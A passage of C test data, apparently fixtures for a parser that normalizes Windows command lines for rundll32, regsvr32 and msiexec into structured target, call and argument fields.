    /* argv[0] with a recorded image */
    {"\"C:\\Windows\\System32\\rundll32.exe C:\\x\\a.dll,Run",
     "C:\\Windows\\System32\\rundll32.exe", "rundll32.exe T:C:\\x\\a.dll C:a!Run L:2"},
    {" /s C:\\Windows\\SysWOW64\\comdlg32.ocx", "C:\\Windows\\SysWOW64\\regsvr32.exe",
     "regsvr32.exe /s T:C:\\Windows\\SysWOW64\\comdlg32.ocx L:1"},
    {"foo.exe C:\\x\\a.dll,Run", "C:\\Windows\\System32\\rundll32.exe",
     "rundll32.exe T:C:\\x\\a.dll C:a!Run L:1"},
    {"rundll32 C:\\x\\a.dll,Run", "C:\\Windows\\System32\\rundll32.exe",
     "rundll32.exe T:C:\\x\\a.dll C:a!Run"},
    {"\"rundll32 C:\\x\\a.dll,Run\" \"x\"", "C:\\Windows\\System32\\rundll32.exe",
     "rundll32.exe T:C:\\x\\a.dll C:a!Run A:\"x\" L:2"},
    {"C:\\Program Files\\My App\\msiexec.exe /i C:\\x.msi",
     "C:\\Program Files\\My App\\msiexec.exe", "msiexec.exe /i=C:\\x.msi T:C:\\x.msi"},
};
